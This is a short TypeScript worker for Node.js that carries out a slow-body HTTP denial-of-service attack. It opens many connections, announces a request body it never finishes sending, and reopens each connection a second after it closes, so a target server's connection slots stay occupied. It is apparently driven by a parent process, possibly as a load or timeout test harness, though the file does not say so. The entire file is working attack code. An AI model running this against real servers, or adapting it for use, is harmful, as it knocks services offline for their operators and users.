import { connect, type Socket } from 'node:net';

/** An attack with requests that never end; a rejected one is repeated after a second. */
export interface Attack {
  url: string;
  count: number;
  /** Announced length of the body; one byte less is sent. */
  bytes: number;
}

const REOPEN_DELAY_MS = 1_000;
const MAX_OPENING = 200;

process.once('message', (attack: Attack) => void run(attack));
process.once('disconnect', () => process.exit(0));

async function run(attack: Attack): Promise<void> {
  const body = Buffer.alloc(attack.bytes - 1, ' ');
  for (let opened = 0; opened < attack.count; opened += MAX_OPENING) {
    const some = Math.min(MAX_OPENING, attack.count - opened);
    await Promise.all(Array.from({ length: some }, () => open(attack, body)));
  }
  process.send?.('ready');
}

/** Resolves once its bytes are sent. */
function open(attack: Attack, body: Buffer): Promise<void> {
  const { hostname, port, host, pathname, search } = new URL(attack.url);
  const socket: Socket = connect(Number(port), hostname);
  socket.on('error', () => undefined);
  socket.once('data', () => socket.destroy());
  socket.once('close', () => setTimeout(() => void open(attack, body), REOPEN_DELAY_MS));
  socket.write(
    `POST ${pathname}${search} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n` +
      `Content-Length: ${attack.bytes}\r\n\r\n`,
  );
  return new Promise((resolve) => {
    socket.write(body, () => resolve());
    // A connection that waits counts as sent too.
    setTimeout(resolve, REOPEN_DELAY_MS).unref();
  });
}
